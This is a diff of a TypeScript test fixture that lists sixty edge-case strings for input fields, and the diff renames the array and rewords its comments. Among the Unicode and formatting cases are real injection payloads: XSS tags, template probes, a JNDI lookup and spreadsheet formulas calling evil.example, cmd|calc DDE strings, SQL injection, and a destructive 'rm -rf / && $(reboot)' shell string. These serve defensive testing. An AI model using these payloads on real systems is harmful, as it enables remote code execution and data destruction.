@@ -1,8 +1,8 @@
 /**
- * Sixty texts that a careless program changes, loses or obeys. Each has three characters at least and a hundred at most, so
- * that every field for a name takes it; what is longer has tests of its own.
+ * Sixty texts that careless programs change, lose or execute. Each has 3 to 100 characters, so that every name field
+ * accepts it; longer texts have their own tests.
  */
-export const hostileTexts: readonly string[] = [
+export const injectionPayloads: readonly string[] = [
   // Markup and scripts.
   '<script>alert(1)</script>',
   '"><img src=x onerror=alert(1)>',
@@ -13,7 +13,7 @@ export const hostileTexts: readonly string[] = [
   '</textarea></title></script><script>alert(1)</script>',
   '&#x3C;iframe src=javascript:alert(1)&#x3E;',
   '&nbsp;&copy;&hellip;',
-  // Templates of every kind.
+  // Template syntax.
   '{{7*7}}${7*7}<%= 7*7 %>',
   '{{name}} {{count}} {{-name}}',
   '$t(crud:delete) $t(app:retry)',
@@ -21,13 +21,13 @@ export const hostileTexts: readonly string[] = [
   '#{7*7} *{7*7} @(7*7) [[7*7]]',
   '%s %d %n %x %@ %1$s',
   '${jndi:ldap://evil.example/a}',
-  // Cells of spreadsheets.
+  // Spreadsheet formulas.
   '=HYPERLINK("http://evil.example";"click")',
   '+1+cmd|’/c calc’!A0',
   '@SUM(1+1)*cmd|" /C calc"!A0',
   '-2+3+cmd|" /C calc"!A0',
   '=1+1',
-  // Databases, shells, paths, addresses.
+  // SQL, shell, paths, URLs.
   "Robert'); drop table users;--",
   "' or '1'='1",
   '; rm -rf / && $(reboot) `id`',
@@ -36,7 +36,7 @@ export const hostileTexts: readonly string[] = [
   '%3Cscript%3E %00 %2e%2e%2f %E0%A4%A',
   'a&b=c?d#e/f;g+h i',
   '"quoted", \'single\', `back`, \\slash\\',
-  // Words that mean nothing, or too much.
+  // Special words.
   'null',
   'undefined',
   'NaN',
@@ -47,7 +47,7 @@ export const hostileTexts: readonly string[] = [
   '000123',
   '1e309',
   '12-06-2026',
-  // Scripts, with and without a direction of their own.
+  // Left-to-right and right-to-left scripts.
   'مرحبا بالعالم \u200F(1)',
   'שלום \u2067עולם\u2069',
   'abc\u202Edcba\u202C',
@@ -57,7 +57,7 @@ export const hostileTexts: readonly string[] = [
   'नमस्ते दुनिया',
   'Ελληνικά Кириллица ქართული',
   'ᚠᛇᚻ ᛒᛦᚦ ꙮ 𒐫',
-  // Letters beyond sixteen bits, joined, combined, stacked.
+  // Characters outside the basic plane, joined, combined, stacked.
   '🤟🏽 sign 👩🏽‍🦻 𝕊𝕃',
   '👨‍👩‍👧‍👦 🏳️‍🌈 🇪🇪🇮🇸',
   'z̸̢̛̤͙a̷l̶g̵o̴',
@@ -65,11 +65,11 @@ export const hostileTexts: readonly string[] = [
   'é e\u0301 ñ n\u0303 Å A\u030A',
   'ﬁ ﷽ ǆ İstanbul ẞ ß ı',
   'Ⅻ ½ ² ™ ℃ ㍿',
-  // What nobody sees.
+  // Invisible characters.
   'a\u200Bb\uFEFFc\u2060d',
   'soft\u00ADhyphen no\u00A0break',
   'tag\u{E0041}\u{E0042} variation\uFE0F',
-  // Words without a place to break them.
+  // Words without a line break opportunity.
   'W'.repeat(100),
   'Ünbrėakåblê_'.repeat(8),
 ];
